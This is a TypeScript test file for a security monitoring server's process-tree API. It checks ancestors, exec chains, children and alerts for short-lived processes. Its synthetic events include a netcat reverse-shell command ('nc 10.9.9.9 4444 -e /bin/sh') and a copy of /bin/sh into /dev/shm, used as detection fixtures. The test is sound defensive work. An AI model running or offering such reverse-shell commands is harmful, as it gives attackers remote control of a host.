// The process endpoint over the real ingest path and the embedded event store: a chain of short-lived
// processes (a shell, a child that forks a subshell, a grandchild that execs twice and exits) answers with
// its ancestors root first, its exec chain, its children, its events by type and the alerts about it, all
// after every process has exited; a process never observed ends the chain as its child named it.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { TestServer } from '../support/embedded-server.ts';
import { eventually } from '../support/vigil-process.ts';
import type { VigilEvent } from '../../src/schema/event.ts';

let t: TestServer;
before(async () => { t = await TestServer.start('graph-host'); });
after(() => t.stop());

let clock = Date.parse('2026-12-01T10:00:00.000Z');
let n = 0;
function lifecycle(type: 'process_start' | 'process_fork' | 'process_end', pid: number, entity: string, exe: string, args: string[], parent?: { pid: number; entity: string; exe: string }): VigilEvent {
  const e = t.agent.syntheticEvents(1)[0];
  const at = new Date(clock += 10).toISOString();
  e['@timestamp'] = at;
  e.event = { ...e.event, id: `0190c0de-0000-7000-8000-${String(++n).padStart(12, '0')}`, type, action: type === 'process_start' ? 'exec' : type === 'process_end' ? 'exit' : 'fork', category: 'process' };
  e.process = { pid, ppid: parent?.pid ?? 0, entity_id: entity, executable: exe, name: exe.split('/').pop(), args, command_line: args.join(' '), start: '2026-12-01T10:00:00.000Z',
    ...(parent ? { parent: { pid: parent.pid, entity_id: parent.entity, executable: parent.exe, command_line: parent.exe } } : {}) };
  e.user = { id: '1000', name: 'mallory' };
  return e;
}

test('a short-lived chain answers with ancestors, exec chain, children, event counts and alerts after it exited', async () => {
  const sshd = { pid: 900, entity: 'ent-sshd-never-seen', exe: '/usr/sbin/sshd' };
  const bash = { pid: 1000, entity: 'ent-bash', exe: '/bin/bash' };
  const sub = { pid: 1001, entity: 'ent-subshell', exe: '/bin/bash' };
  const events = [
    lifecycle('process_start', bash.pid, bash.entity, bash.exe, ['bash', '-i'], sshd),
    lifecycle('process_fork', sub.pid, sub.entity, bash.exe, ['bash', '-i'], bash),
    lifecycle('process_start', 1002, 'ent-payload', '/bin/cp', ['cp', '/bin/sh', '/dev/shm/x'], sub),
    lifecycle('process_start', 1002, 'ent-payload', '/usr/bin/nc', ['nc', '10.9.9.9', '4444', '-e', '/bin/sh'], sub),
    lifecycle('process_end', 1002, 'ent-payload', '/usr/bin/nc', ['nc', '10.9.9.9', '4444', '-e', '/bin/sh'], sub),
    lifecycle('process_end', sub.pid, sub.entity, bash.exe, ['bash', '-i'], bash),
  ];
  await t.agent.send(events);
  const host = t.agent.identity.agentId;
  const body = await eventually(async () => {
    const r = await t.api('GET', `/api/v1/hosts/${host}/processes/ent-payload`);
    return r.status === 200 && r.body.alerts.length > 0 && r.body.process.exit ? r.body : undefined;
  }, 15_000, 'the process with its alert');
  assert.equal(body.process.pid, 1002);
  assert.equal(body.process.executable, '/usr/bin/nc', 'the image it ran last');
  assert.equal(body.process.user_name, 'mallory');
  assert.deepEqual(body.exec_chain.map((x: any) => x.executable), ['/bin/cp', '/usr/bin/nc']);
  assert.deepEqual(body.ancestors.map((a: any) => [a.entity_id, a.pid, a.executable]),
    [[sshd.entity, 900, '/usr/sbin/sshd'], [bash.entity, 1000, '/bin/bash'], [sub.entity, 1001, '/bin/bash']],
    'root first, the never-observed sshd as bash named it');
  for (const a of body.ancestors) for (const k of ['entity_id', 'pid', 'executable', 'command_line', 'start', 'user_name']) assert.ok(k in a, k);
  assert.deepEqual(body.events, { process_end: 1, process_start: 2 });
  assert.equal(body.alerts.length, 1, 'the netcat alert, once for both execs of the process');

  const parent = (await t.api('GET', `/api/v1/hosts/${host}/processes/${sub.entity}`)).body;
  assert.deepEqual(parent.children.map((c: any) => [c.entity_id, c.executable]), [['ent-payload', '/usr/bin/nc']]);
  assert.notEqual(parent.process.exit, null, 'an exited subshell stays reachable');

  const alert = (await t.api('GET', `/api/v1/alerts/${body.alerts[0]}`)).body;
  assert.deepEqual(alert.ancestors.map((a: any) => a.entity_id), [bash.entity, sub.entity], 'captured when the alert was made (sshd was never observed)');

  assert.equal((await t.api('GET', `/api/v1/hosts/${host}/processes/no-such-entity`)).status, 404);
  assert.equal((await t.api('GET', `/api/v1/hosts/no-such-host/processes/ent-payload`)).status, 404);
});

test('a stored start records its ancestors; where the recording server knew no more, the walk goes on by stored parent', async () => {
  const host = t.agent.identity.agentId;
  const login = { pid: 3000, entity: 'ent-login-never-seen', exe: '/bin/login' };
  const a = { pid: 3001, entity: 'ent-a', exe: '/bin/bash' };
  const b = { pid: 3002, entity: 'ent-b', exe: '/usr/bin/python3' };
  const c = { pid: 3003, entity: 'ent-c', exe: '/bin/sh' };
  await t.agent.send([lifecycle('process_start', a.pid, a.entity, a.exe, ['bash'], login), lifecycle('process_start', b.pid, b.entity, b.exe, ['python3'], a)]);
  const starts = async (entity: string) => (await t.api('GET', `/api/v1/events?host=${host}&process_entity_id=${entity}&type=process_start&limit=10`)).body.events as VigilEvent[];
  const [bStart] = await eventually(async () => {
    const found = await starts(b.entity);
    return found.length > 0 && t.server.detection.processes.node('default', host, b.entity) ? found : undefined;
  }, 15_000, 'b stored and applied');
  assert.deepEqual(bStart.process?.ancestry, [a.entity, login.entity], 'nearest first, from the batch and the index');
  t.server.detection.processes.forget('default', host); // as a worker that has just taken the host over knows none of it
  await t.agent.send([lifecycle('process_start', c.pid, c.entity, c.exe, ['sh', '-c', 'id'], b), lifecycle('process_start', 3004, 'ent-d', '/usr/bin/id', ['id'], c)]);
  const body = await eventually(async () => {
    const r = await t.api('GET', `/api/v1/hosts/${host}/processes/ent-d`);
    return r.status === 200 ? r.body : undefined;
  }, 15_000, 'd stored');
  assert.deepEqual((await starts(c.entity))[0].process?.ancestry, [b.entity], 'the index no longer knew b\'s ancestors');
  assert.deepEqual(body.ancestors.map((x: any) => [x.entity_id, x.executable]),
    [[login.entity, login.exe], [a.entity, a.exe], [b.entity, b.exe], [c.entity, c.exe]], 'the whole chain, root first, as if every start had recorded it');
});
